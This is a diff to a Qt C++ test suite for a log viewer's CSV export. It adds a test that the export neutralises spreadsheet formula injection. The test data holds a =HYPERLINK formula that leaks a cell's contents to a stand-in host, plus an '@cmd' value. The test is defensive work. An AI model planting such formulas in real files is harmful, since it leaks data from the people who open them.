@@ -48,6 +48,7 @@ private slots:
     void damagedInputsSayWhatTheyMust_data();
     void damagedInputsSayWhatTheyMust();
     void searchesAndPrintsTheSelectedBlock();
+    void exportIsSafeInASpreadsheet();
     void menuOpensOneWindowThatWaitsForItsLoad();
 };
 
@@ -80,7 +81,8 @@ void TstHistory::showsSignsAndVerifies() {
     env.dialogs->chooseFile(env.path("run.csv"));
     trigger(view, "Export"); // the data grid, with its titles
     QVERIFY(readBytes(env.path("run.csv"))
-                .startsWith("Date,Time,Operator Message,Batch Number,Lot Number,TIC-1\r\n"));
+                .startsWith("\xEF\xBB\xBF"
+                            "Date,Time,Operator Message,Batch Number,Lot Number,TIC-1\r\n"));
     QVERIFY(env.dialogs->boxes.isEmpty());
 
     g21CFR = true;
@@ -241,6 +243,27 @@ void TstHistory::searchesAndPrintsTheSelectedBlock() {
 
 // The menu opens the window; a close while it loads is ignored, and the close after it clears
 // the file.
+void TstHistory::exportIsSafeInASpreadsheet() {
+    TestEnv env;
+    const QString message = QStringLiteral("=HYPERLINK(\"http://example.invalid/?\"&A3;\"x\")&0");
+    QStringList lines = dataLines("7", 1);
+    lines << "3/14/2026,10:00:02 AM," + message + ".,.,.,-2.5,@cmd,";
+    const QString file = env.path("Log Files/run.slg");
+    writeSigned(file, enciphered(lines));
+    FrmHistory view;
+    env.dialogs->chooseFile(file);
+    trigger(view, "Open");
+    env.dialogs->chooseFile(env.path("run.csv"));
+    trigger(view, "Export");
+    // The data grid as a spreadsheet reads the export: the formulas shown as text, the numbers
+    // as they are, and no column for the closing comma.
+    const QList<QStringList> rows = csvAsASpreadsheetReadsIt(env.path("run.csv"));
+    QCOMPARE(rows.size(), 4);
+    QCOMPARE(rows[0], lines[0].split(u',').mid(0, 7));
+    QCOMPARE(rows[3], (QStringList{"3/14/2026", "10:00:02 AM", "'" + message + ".", ".", ".",
+                                   "-2.5", "'@cmd"}));
+}
+
 void TstHistory::menuOpensOneWindowThatWaitsForItsLoad() {
     TestEnv env;
     const QString file = env.path("Log Files/long.slg");
